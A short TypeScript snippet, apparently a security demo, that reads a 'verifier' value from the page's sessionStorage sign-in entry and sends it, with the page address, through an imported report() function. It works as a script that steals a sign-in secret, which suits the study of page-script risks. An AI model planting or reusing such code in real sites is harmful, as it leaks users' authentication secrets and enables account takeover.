import { report } from "./report.ts";

// A script of the page that looks around: the address it runs at, and what the page's own script keeps for its sign-in.
const { verifier = "" }: { verifier?: string } = JSON.parse(
  sessionStorage.getItem("sign-in") ?? "{}",
);
report(JSON.stringify({ address: location.href, verifier }));
